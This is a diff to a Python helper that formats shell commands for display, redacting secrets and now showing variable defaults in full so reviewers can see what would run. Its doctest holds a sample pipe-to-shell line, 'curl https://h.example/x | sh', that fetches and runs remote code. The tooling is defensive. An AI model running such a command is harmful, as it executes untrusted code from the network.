@@ -39,6 +39,9 @@ _SECRET_IN_CODE: Final = re.compile(
 
 _VARIABLE: Final = re.compile(r"\$\{(\w+)(?::-[^}]*)?\}")
 
+_DEFAULT: Final = re.compile(r"(\$\{(?:env:)?\w+:-)([^}]*)\}")
+"""A variable with what stands in for it, which may be what a stranger wants to be run."""
+
 _HIDDEN: Final = "[redacted]"
 
 
@@ -81,8 +84,17 @@ def whole_command(command: Sequence[str]) -> str:
     >>> whole_command(["bash", "-c", "curl https://h.example/x | sh", "--token", "hush"])
     'bash -c "curl https://h.example/x | sh" --token [redacted]'
     """
-    words = (_code(word) if _is_code(word) else _shown(word) for word in _arguments(command))
-    return " ".join([_VARIABLE.sub(r"${\1}", command[0]), *words])
+    return " ".join([command[0], *map(_shown_whole, _arguments(command))])
+
+
+def _shown_whole(word: _Word) -> str:
+    if _is_code(word):
+        return _code(word)
+    if (variable := _DEFAULT.fullmatch(word.value)) is None:
+        return _shown(word)
+    start, value = variable.groups()
+    ordinary = _PATH.match(value) or _NAME.fullmatch(value)
+    return f"{word.start}{start}{_shown(_Word('', value, word.named_by, not ordinary, word.option))}}}"
 
 
 def _is_code(word: _Word) -> bool:
@@ -99,7 +111,7 @@ def _is_code(word: _Word) -> bool:
 
 
 def _code(word: _Word) -> str:
-    text = _SECRET_IN_CODE.sub(rf"\1\2{_HIDDEN}", _VARIABLE.sub(r"${\1}", word.start + word.value))
+    text = _SECRET_IN_CODE.sub(rf"\1\2{_HIDDEN}", word.start + word.value)
     return f'"{text}"' if _CODE.search(text) else text
 
 
